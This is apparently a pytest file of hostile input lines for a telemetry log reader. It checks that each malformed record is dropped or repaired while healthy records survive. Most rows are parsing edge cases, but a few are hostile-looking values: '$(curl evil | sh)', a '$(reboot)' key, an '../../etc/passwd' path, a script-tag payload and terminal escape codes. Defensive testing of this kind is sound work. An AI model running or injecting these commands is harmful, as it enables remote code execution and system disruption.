"""Hostile lines and files, one named row each: what becomes of them, beside a healthy record that must survive."""

import json
from typing import NamedTuple

import pytest
from tests.telemetry.feeding import drain, source_of


class Attack(NamedTuple):
    name: str
    line: bytes
    dropped: str | None = None
    repaired: str | None = None


HEALTHY = b'{"ts":"2026-01-01T00:00:00Z","step":0,"step_time_ms":900.0}'
OK = b'{"ts":"2026-01-01T00:00:01Z","step":1,"step_time_ms":900.0,'

ATTACKS = [
    Attack("nesting of arrays", b"[" * 100_000, dropped="wrong_shape"),
    Attack("nesting of objects", b'{"a":' * 100_000, dropped="wrong_shape"),
    Attack("closed nesting in an ignored field", OK + b'"x":' + b"[" * 500 + b"]" * 500 + b"}", dropped="wrong_shape"),
    Attack("nesting allowed", OK + b'"x":' + b"[" * 60 + b"]" * 60 + b"}"),
    Attack("brackets in a string", OK + b'"x":"' + b"[" * 5000 + b'"}'),
    Attack(
        "nesting inside the text of a list",
        OK + b'"worker_latencies_ms":"' + b"\\u005b" * 9000 + b'"}',
        repaired="field_ignored",
    ),
    Attack("integer of 100,000 digits as a step", OK + b'"step":' + b"9" * 100_000 + b"}", repaired="non_finite"),
    Attack("integer of 100,000 digits as a number", OK + b'"loss":' + b"9" * 100_000 + b"}", repaired="non_finite"),
    Attack("integer of 100,000 digits as a time", b'{"loss":1,"ts":' + b"9" * 100_000 + b"}", dropped="not_a_number"),
    Attack(
        "integer of 5,000 digits in text as a time",
        b'{"loss":1,"ts":"' + b"9" * 5000 + b'"}',
        dropped="not_a_number",
    ),
    Attack("100,000 digits behind the point", OK + b'"loss":0.' + b"3" * 100_000 + b"}"),
    Attack("exponent beyond a float", OK + b'"throughput":1e400}', repaired="non_finite"),
    Attack("exponent far beyond a float", OK + b'"throughput":1e999999999999}', repaired="non_finite"),
    Attack("exponent in text", OK + b'"throughput":"1e99999"}', repaired="field_ignored"),
    Attack("tiny number", OK + b'"throughput":1e-400}'),
    Attack("bare NaN", OK + b'"throughput":NaN}', repaired="non_finite"),
    Attack("bare NaN in an ignored field", OK + b'"x":NaN}', repaired="non_finite"),
    Attack("bare nan", OK + b'"throughput":nan}', dropped="invalid_json"),
    Attack("number with a leading zero", OK + b'"loss":01}', dropped="invalid_json"),
    Attack("number with an underscore", OK + b'"loss":"1_0"}', repaired="field_ignored"),
    Attack("digits of another script", OK + '"loss":"\u0661\u0662"}'.encode(), repaired="field_ignored"),
    Attack("true as a number", OK + b'"loss":true}', repaired="field_ignored"),
    Attack("true as a step", OK + b'"step":true}', repaired="field_ignored"),
    Attack("negative step time", b'{"ts":1767225601,"step_time_ms":-1}', dropped="not_a_number"),
    Attack("negative step time beside a loss", OK.replace(b"900.0", b"-1") + b'"loss":1}', repaired="field_ignored"),
    Attack("negative zero", OK + b'"data_wait_ms":-0.0}'),
    Attack("repeated names", OK + b'"step_time_ms":901.0,"step_time_ms":902.0}'),
    Attack("a name of 100,000 letters", OK + b'"' + b"x" * 100_000 + b'":1}'),
    Attack("10,000 names", OK + b",".join(b'"k%d":%d' % (n, n) for n in range(10_000)) + b"}"),
    Attack(
        "1,000 knobs",
        OK + b",".join(b'"knob.k%d":%d' % (n, n) for n in range(1000)) + b"}",
        repaired="field_ignored",
    ),
    Attack(
        "100,000 workers",
        OK + b'"worker_latencies_ms":[' + b",".join([b"1"] * 100_000) + b"]}",
        repaired="field_ignored",
    ),
    Attack("empty name", OK + b'"":1}'),
    Attack("prototype names", OK + b'"__proto__":{"ts":1},"constructor":1}'),
    Attack("node with terminal codes", OK + b'"node":"\\u001b[31mred\\u001b]0;t\\u0007"}'),
    Attack("node with a lone surrogate", OK + b'"node":"\\ud800x"}'),
    Attack("node with bidi override", OK + '"node":"a\u202eb"}'.encode()),
    Attack("node with markup", OK + b'"node":"<script>alert(1)</script>"}'),
    Attack("node as an object", OK + b'"node":{"name":"a"}}', repaired="field_ignored"),
    Attack("knob named like a command", OK + b'"knobs":{"$(reboot)":1}}', repaired="field_ignored"),
    Attack("knob with a path", OK + b'"knobs":{"../../etc/passwd":1}}', repaired="field_ignored"),
    Attack("knobs as a list", OK + b'"knobs":[1]}', repaired="field_ignored"),
    Attack("invalid UTF-8 in a name", OK + b'"node":"caf\xe9"}', repaired="invalid_utf8"),
    Attack("invalid UTF-8 in an ignored field", OK + b'"x":"\xff\xfe"}', repaired="invalid_utf8"),
    Attack("overlong UTF-8", OK + b'"x":"\xc0\xaf"}', repaired="invalid_utf8"),
    Attack("byte order mark", b"\xef\xbb\xbf" + OK + b'"x":1}', repaired="byte_order_mark"),
    Attack("byte order mark alone", b"\xef\xbb\xbf", dropped="blank"),
    Attack("UTF-16", '{"ts":1}'.encode("utf-16-le"), dropped="invalid_json"),
    Attack("nul bytes", b"\0" * 4096, dropped="invalid_json"),
    Attack("nul byte in a string", OK + b'"node":"a\0b"}', dropped="invalid_json"),
    Attack("escaped nul in a string", OK + b'"node":"a\\u0000b"}'),
    Attack("carriage returns", OK + b'"x":1}\r\r\r'),
    Attack("two objects on a line", OK + b'"x":1}' + OK + b'"x":1}', dropped="invalid_json"),
    Attack("trailing comma", OK + b"}", dropped="invalid_json"),
    Attack("comment", OK + b'"x":1} // fine', dropped="invalid_json"),
    Attack("single quotes", b"{'ts':1,'loss':1}", dropped="invalid_json"),
    Attack("cut in the middle", OK[:30], dropped="invalid_json"),
    Attack("spaces alone", b" \t \r", dropped="blank"),
    Attack("list of records", b"[" + HEALTHY + b"]", dropped="wrong_shape"),
    Attack("number", b"42", dropped="wrong_shape"),
    Attack("string", b'"a"', dropped="wrong_shape"),
    Attack("null", b"null", dropped="wrong_shape"),
    Attack("empty object", b"{}", dropped="missing_field"),
    Attack("time before 1970", b'{"ts":"1969-12-31T23:59:59Z","loss":1}', dropped="not_a_number"),
    Attack("time after 9999", b'{"ts":1e30,"loss":1}', dropped="not_a_number"),
    Attack("time as a list", b'{"ts":[1],"loss":1}', dropped="not_a_number"),
    Attack("time NaN", b'{"ts":NaN,"loss":1}', dropped="not_a_number"),
    Attack("infinite time in text", b'{"ts":"Infinity","loss":1}', dropped="not_a_number"),
    Attack("zone beyond a day", b'{"ts":"2026-01-01T00:00:00+99:00","loss":1}', dropped="not_a_number"),
    Attack("shell in a line", b"$(curl evil | sh)", dropped="invalid_json"),
    Attack("terminal codes in a line", b"\x1b]0;owned\x07\x1b[2J", dropped="invalid_json"),
]


@pytest.mark.parametrize("attack", ATTACKS, ids=[attack.name for attack in ATTACKS])
def test_a_hostile_line_does_no_harm(attack: Attack) -> None:
    last = HEALTHY.replace(b"00Z", b"02Z").replace(b'"step":0', b'"step":2')
    source = source_of(b"\n".join([HEALTHY, attack.line, last]) + b"\n")
    rows = drain(source)
    counters = source.counters()
    assert (rows[0]["step"], rows[-1]["step"]) == (0, 2)
    assert counters.read_total == 3
    assert counters.dropped_by_reason == ({attack.dropped: 1} if attack.dropped else {})
    assert counters.repaired_by_reason == ({attack.repaired: 1} if attack.repaired else {})
    for row in rows:
        assert str(row.get("node", "")).isprintable()
        json.dumps(row, ensure_ascii=False).encode()
